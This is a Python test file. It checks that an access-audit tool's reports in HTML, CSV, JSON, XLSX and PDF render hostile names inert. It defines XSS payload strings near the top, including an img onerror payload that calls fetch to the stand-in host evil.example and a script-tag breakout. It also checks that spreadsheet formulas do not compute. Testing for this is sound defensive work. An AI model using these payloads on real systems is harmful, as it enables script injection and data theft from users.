"""Names that try something, through every report and every format: they stay names.

In a real browser nothing runs, in a spreadsheet nothing computes, every file keeps to its folder.
A report that is added to the library goes through it without being named here.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from datetime import datetime
from pathlib import Path

import pytest

from browsing import NO_PRINT, Browsing
from e2e.command import sigma_audit
from hostile import HOSTILE
from inert import is_inert
from reading import computes, csv_rows, workbook
from sigma_audit.library import Library
from sigma_audit.report.catalog import catalog
from sigma_audit.report.write import Dossier, write_reports
from worlds import World

FORMATS = ("html", "csv", "json", "xlsx")
LIBRARY = Library()
ATTACK = "<img src=x onerror=\"document.title='owned';fetch('http://evil.example/')\">"
SCRIPT = "</td></script><script>document.title='owned';alert(1)</script>"
LONG = HOSTILE["long"]
SHORT = ("privileged", "teams", "changes")  # what a PDF holds; each shows every name
NAMES = [ATTACK, SCRIPT, *(name for key, name in HOSTILE.items() if key != "long")]
CHANGED = NAMES[::4]  # what moves between the two snapshots
FILE = re.compile(r"([a-z_]+/)?[a-z0-9_-]+\.(html|csv|json|xlsx|pdf|vanta\.csv|facts\.json)")


def organisation() -> World:
    """An organisation in which every text that anybody may write tries something."""
    world = World(name="hostile", taken_at=datetime(2026, 3, 31, 9, 14))
    world.member("Ann", "Admin")
    for number, name in enumerate(NAMES):
        world.account_type(name, "View workbooks", "Full explore", name)
        member = world.member(f"M{number}", name)
        world.members[member] |= {"firstName": name, "lastName": name, "email": name}
        guest = world.member(f"G{number}", "Build", kind="guest")
        world.members[guest] |= {"firstName": name, "lastName": "", "email": f"g{number}@x.test"}
        team = world.team(name, member, guest, admins=(guest,))
        space = world.workspace(name)
        folder = world.folder(name, space)
        document = world.document("workbook", name, folder, member)
        world.grant(space, "edit", team=team)
        world.grant(folder, name, member=member)
        world.grant(document, "view")
        connection = world.connection(name)
        world.path(connection, name, name, name)
        world.grant(connection, "admin", team=team)
    space = world.workspace("Long")
    world.grant(world.document("workbook", LONG, space), "view", member="MemberAnn")
    world.grant(space, "view", member="MemberM0")
    return world


def later(world: World) -> World:
    """Change what some of them have, so that the names stand in changes and their causes."""
    world = world.copy()
    world.taken_at = datetime(2026, 6, 30, 9, 14)
    for name in CHANGED:
        number = NAMES.index(name)
        world.team(name, f"MemberM{number}")
        world.members[f"MemberG{number}"]["isArchived"] = True
        world.grant(world.workspace("Long"), "explore", team=world.team(name + "2", "MemberM1"))
    return world


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every report in every format, two dossiers, what policies found, and who left."""
    root = tmp_path_factory.mktemp("hostile")
    out = root / "below" / "out"
    world = organisation()
    before, after = world.seal(root), later(world).seal(root)
    place = next(key for key, one in world.inodes.items() if one["name"] == SCRIPT)
    dossiers = [
        Dossier("member_dossier", {"who": "MemberM1"}, SCRIPT),
        Dossier("object_dossier", {"what": place}),
    ]
    write_reports((), after, before, FORMATS, out, {}, LIBRARY, dossiers=dossiers, pages=5)
    write_reports(["access_by_member"], after, None, ["vanta-csv"], out, {}, LIBRARY)
    write_reports(SHORT, after, before, ["pdf"], out, {}, LIBRARY, dossiers=dossiers[:1])
    leavers = root / "leavers.csv"
    with leavers.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(
            [
                ["email", "last_day"],
                *([f"g{number}@x.test", "2026-04-30"] for number in range(len(NAMES))),
            ]
        )
    for words in (("check", "--fail-on", "never"), ("offboard", "--leavers", leavers)):
        said = sigma_audit(*words, "--snapshot", after, "--out", out, folder=root)
        assert said.code in (0, 1), said.err
    return out


def test_every_report_is_here(written: Path) -> None:
    missing = [
        name
        for name, report in catalog(LIBRARY).items()
        if report.needs in ("snapshot", "pair", "leavers", "findings")
        and not any(written.glob(f"{name}*.html"))
    ]
    assert missing == []


def test_files_keep_to_their_folder(written: Path) -> None:
    root = written.parents[1]
    found = {path.relative_to(written).as_posix() for path in written.rglob("*") if path.is_file()}
    assert [name for name in found if not FILE.fullmatch(name)] == []
    others = {
        path.name for path in root.rglob("*") if path.is_file() and written not in path.parents
    }
    assert all(name.endswith((".duckdb", ".duckdb.sha256", ".csv")) for name in others), others


def test_no_cell_of_a_spreadsheet_computes(written: Path) -> None:
    quoted = books = 0
    for path in written.glob("*.csv"):
        for row in csv_rows(path.read_bytes()):
            assert not any(map(computes, row)), path.name
            quoted += sum(cell.startswith("'=") for cell in row)
    for path in written.glob("*.xlsx"):
        sheets = workbook(path.read_bytes())
        assert sum(sheet.formulas for sheet in sheets.values()) == 0, path.name
        books += 1
    assert quoted > 100
    accounts = csv_rows((written / "access_by_member.vanta.csv").read_bytes())
    assert sum(cell.startswith("'=") for row in accounts for cell in row) > 5
    assert books >= len(catalog(LIBRARY)) - 4


def test_a_pdf_shows_the_names_and_does_nothing(written: Path) -> None:
    pages = sorted(written.glob("*.pdf"))
    assert len(pages) == len(SHORT) + 1
    for path in pages:
        body = path.read_bytes()
        # Its objects are compressed, so they are read by a reader of its own.
        told = pdf_text("pdftotext", path, "-")
        assert "onerror=" in told, path.name
        assert "<script>" in told, path.name
        assert body.startswith(b"%PDF-"), path.name
        assert pdf_text("pdfinfo", "-js", path).strip() == "", path.name
        assert "http" not in pdf_text("pdfinfo", "-url", path), path.name
        assert re.search(r"JavaScript: +no", pdf_text("pdfinfo", path)), path.name


def pdf_text(*words: str | Path) -> str:
    """Put a tool of poppler's to a file, and give what it says."""
    tool = shutil.which(str(words[0]))
    if tool is None:
        pytest.skip(NO_PRINT)
    done = subprocess.run([tool, *words[1:]], capture_output=True, text=True, check=True)
    return done.stdout


def test_a_megabyte_is_kept_whole(written: Path) -> None:
    rows = json.loads((written / "access_by_object.json").read_bytes())["rows"]
    assert any(LONG in row["object"] for row in rows)
    body = (written / "access_by_object.html").read_text(encoding="utf-8")
    assert LONG in body


def test_in_a_browser_nothing_runs(written: Path, browser: Browsing) -> None:
    pages = sorted(written.rglob("*.html"))
    told = 0
    for path in pages:
        with browser.open(path) as page:
            assert "owned" not in page.title() or "<" in page.title()
            dom = page.content()
        is_inert(dom)
        told += "&lt;script&gt;document.title='owned'" in dom
    assert told > len(pages) / 2
